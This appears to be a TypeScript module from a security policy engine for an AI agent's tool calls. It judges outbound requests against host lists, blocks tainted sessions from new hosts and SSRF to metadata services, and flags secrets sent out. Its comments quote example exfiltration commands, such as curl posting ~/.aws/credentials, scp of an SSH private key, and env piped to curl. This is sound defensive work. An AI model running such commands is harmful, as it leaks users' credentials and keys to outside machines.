// Verdicts for where a call sends (url and egress effects) and for the secrets it carries
// (docs/decisions/0090-egress-judgement.md, 0091-secrets-carried-out.md). A destination is
// judged in every reading a client may take of it (host-readings.ts); the strictest decides.
import { destinationKey } from "../effects/egress.js";
import { type HostClass, hostClass } from "../net/host.js";
import { describeDestination } from "../net/destination-text.js";
import { hostReadings } from "../net/host-readings.js";
import type { CompiledPolicy } from "../policy/api.js";
import type { Carried } from "../secrets/carried.js";
import { type Destination, type Effect, VERDICT_RANK } from "../types.js";
import type { JudgedEffect } from "./judge-effect.js";

export interface EgressContext {
  tool: string;
  policy: CompiledPolicy;
  tainted: boolean;
  /** Whether this session has already talked to a destination (by destinationKey). */
  seen?: (key: string) => boolean;
}

const CLASS_NOTE: Partial<Record<HostClass, string>> = {
  metadata: " (a cloud metadata service: it hands this machine's credentials to any caller)",
  "link-local": " (a link-local address)",
  loopback: " (this machine)",
  private: " (the local network)",
};

/** An allowed fetch; a program of a parsed command says what it does (decision 0079). */
const fetchReason = (effect: Effect, tool: string): string =>
  effect.via === undefined
    ? `${tool} would fetch ${effect.spelled}; its response will mark the session as tainted`
    : `${effect.via.command}: ${effect.via.does} ${effect.spelled}; unless the host is one commands.trusted_hosts names, its answer marks the session as tainted`;

/** The destinations an effect may reach: its own, and every reading of its URL. */
export function destinationsReached(effect: Effect): Destination[] {
  const out: Destination[] = [];
  if (effect.destination !== undefined) out.push(effect.destination);
  if (effect.kind === "url" || /^\s*[a-z][a-z0-9+.-]*:\/\//i.test(effect.spelled))
    for (const c of hostReadings(effect.spelled))
      if (!out.some((d) => d.host === c.host && d.port === c.port && d.recipient === undefined)) out.push(c);
  return out;
}

/** Longest path segment a page address has; a longer one may be data written into the path. */
const PAGE_SEGMENT_MAX = 40;

/**
 * Whether a request carries data of the session's: every send does; a fetch does when its URL has
 * a query, user info or a path segment longer than a page name. Reading documentation page by page
 * on public hosts a fetched page linked to is not sending (decision 0090, amended).
 */
function carriesData(effect: Effect): boolean {
  if (effect.kind !== "url") return true;
  let url: URL;
  try {
    url = new URL(effect.spelled.trim());
  } catch {
    return true; // what cannot be read as a page address is judged as a send
  }
  if (url.search !== "" || url.username !== "" || url.password !== "") return true;
  return url.pathname.split("/").some((s) => s.length > PAGE_SEGMENT_MAX);
}

/** A local service acts on a plain request (SSRF): only public hosts are mere pages to read. */
const isPublic = (d: Destination): boolean => d.host === undefined || hostClass(d.host) === "public";

/**
 * Whether answering a call with this effect makes `d` a destination the session has sent to. A
 * plain read of a public page does not: it carried nothing of the session's, and tainted_new_host
 * lets it through unasked, so counting it would let a tainted session fetch `https://x.example/`
 * and then send its data to x.example as to a host it had already sent to.
 */
export const sendsTo = (effect: Effect, d: Destination): boolean =>
  effect.kind !== "url" || carriesData(effect) || !isPublic(d);

/** The host lists in the order they are read: a deny wins over an allow, an allow over a confirm. */
const HOST_LISTS = [
  ["deny_hosts", "deny"],
  ["allow_hosts", "allow"],
  ["confirm_hosts", "confirm"],
] as const;

function judgeOne(effect: Effect, d: Destination, cx: EgressContext): JudgedEffect {
  const where = describeDestination(d);
  const judged = { ...effect, canonical: destinationKey(d), destination: d };
  const verb = effect.kind === "url" ? "send a request to" : "send data to";
  // A program of a parsed command says what it does (decision 0120): `scp f h:: sends files to h`.
  const would =
    effect.kind === "egress" && effect.via !== undefined
      ? `${effect.via.command}: ${effect.via.does}`
      : `${cx.tool} would ${verb}`;
  const hosts = cx.policy.egress;
  if (d.host !== undefined) {
    const note = CLASS_NOTE[hostClass(d.host)] ?? "";
    for (const [list, verdict] of HOST_LISTS) {
      const matched = hosts.matchHost(list, d.host, d.port);
      if (matched === undefined) continue;
      // An allowed host needs no warning about its class (a private address the user allowed).
      const said = verdict === "allow" ? "" : note;
      return {
        effect: judged,
        verdict,
        rule: `egress.${list} ${matched}`,
        reason: `${would} ${where}${said}, which matches egress.${list} ${matched}`,
      };
    }
  }
  const fresh = cx.seen === undefined || !cx.seen(destinationKey(d));
  if (cx.tainted && fresh && hosts.taintedNewHost !== "allow" && (carriesData(effect) || !isPublic(d)))
    return {
      effect: judged,
      verdict: hosts.taintedNewHost,
      rule: "egress.tainted_new_host",
      reason: `${would} ${where}, which this session has not sent to before, and this session has taken in untrusted content`,
    };
  const reason =
    effect.kind === "url" ? fetchReason(effect, cx.tool) : `${would} ${where}, which no rule names`;
  return { effect: judged, verdict: "allow", reason };
}

/** The verdict for a url or egress effect: its strictest reading. */
export function judgeDestination(effect: Effect, cx: EgressContext): JudgedEffect {
  const readings = destinationsReached(effect);
  if (readings.length === 0)
    return {
      effect,
      verdict: "allow",
      reason:
        effect.kind === "url"
          ? `${cx.tool} names ${effect.spelled}, a URL with no host any client could reach`
          : `${cx.tool} names no destination`,
    };
  let best: JudgedEffect | undefined;
  for (const d of readings) {
    const item = judgeOne(effect, d, cx);
    if (best === undefined || VERDICT_RANK[item.verdict] > VERDICT_RANK[best.verdict]) best = item;
  }
  return best as JudgedEffect;
}

const HOW: Record<string, string> = { plain: "" };

/** The verdict for one secret a call carries, told with the destination it rides to. */
export function judgeCarried(carrier: Effect, found: Carried, cx: EgressContext): JudgedEffect {
  const d = carrier.destination;
  const where = d === undefined ? "its server" : describeDestination(d);
  const how = HOW[found.via] ?? `, ${found.via.replace(/>/g, " inside ")} encoded`;
  const verdict = cx.policy.egress.secrets;
  return {
    effect: carrier,
    verdict,
    rule: `egress.secrets ${found.id}`,
    reason: `${cx.tool} would send ${found.kind} (at ${found.at}${how}) to ${where}${verdict === "allow" ? "; egress.secrets is allow" : ""}`,
  };
}

/**
 * The send each command's own items ride on: its first egress, else its first URL (a fetch
 * carries its words too: `curl -H "Authorization: $T" https://h`). One pass, keyed by the
 * command as written: looking it up per item made a long script's judging quadratic.
 */
function carriersByCommand(items: readonly JudgedEffect[]): Map<string, Effect> {
  const egress = new Map<string, Effect>();
  const url = new Map<string, Effect>();
  for (const { effect } of items) {
    const command = effect.via?.command;
    if (command === undefined) continue;
    const first = effect.kind === "egress" ? egress : effect.kind === "url" ? url : undefined;
    if (first !== undefined && !first.has(command)) first.set(command, effect);
  }
  for (const [command, effect] of url) if (!egress.has(command)) egress.set(command, effect);
  return egress;
}

/**
 * A command that sends a file paths.deny_read protects (`curl -d @~/.aws/credentials`, `scp
 * ~/.ssh/id_rsa h:`) carries a secret out (decision 0120): an egress.secrets item, told with the
 * destination the same command sends to, ahead of the read's own item so that it names both.
 */
export function sentSecretFiles(items: readonly JudgedEffect[], policy: CompiledPolicy): JudgedEffect[] {
  const out: JudgedEffect[] = [];
  const carriers = carriersByCommand(items);
  for (const item of items) {
    const via = item.effect.via;
    if (via === undefined) continue;
    const carrier = carriers.get(via.command);
    const d = carrier?.destination;
    const where = d === undefined ? "another machine" : describeDestination(d);
    const verdict = policy.egress.secrets;
    // A variable named like a credential (`$GITHUB_TOKEN`, decision 0137): it may go to the
    // hosts egress.credential_hosts pairs it with, and to no other.
    if (via.carries?.startsWith("$") === true && item.effect.kind === "command") {
      const name = via.carries.slice(1);
      if (d?.host !== undefined && policy.egress.credentialHost(name, d.host, d.port) !== undefined) continue;
      out.push({
        effect: carrier ?? item.effect,
        verdict,
        rule: "egress.secrets environment",
        reason: `${via.command}: ${via.does}, to ${where}${d?.host === undefined ? "" : `, a host egress.credential_hosts does not pair with ${name}`}${verdict === "allow" ? "; egress.secrets is allow" : ""}`,
      });
      continue;
    }
    // The environment printed into a send (`env | curl -d @- h`): it holds the session's tokens.
    if (via.carries !== undefined && item.effect.kind === "command") {
      out.push({
        effect: carrier ?? item.effect,
        verdict,
        rule: "egress.secrets environment",
        reason: `${via.command}: ${via.does}, which holds this machine's credentials, to ${where}${verdict === "allow" ? "; egress.secrets is allow" : ""}`,
      });
      continue;
    }
    if (via.sent !== true || item.effect.kind !== "path" || !item.rule?.startsWith("paths.deny_read "))
      continue;
    out.push({
      effect: carrier ?? item.effect,
      verdict,
      rule: "egress.secrets secret-file",
      reason: `${via.command}: sends the content of ${item.lexical ?? item.effect.spelled}, a secret file (${item.rule}), to ${where}${verdict === "allow" ? "; egress.secrets is allow" : ""}`,
    });
  }
  return out;
}
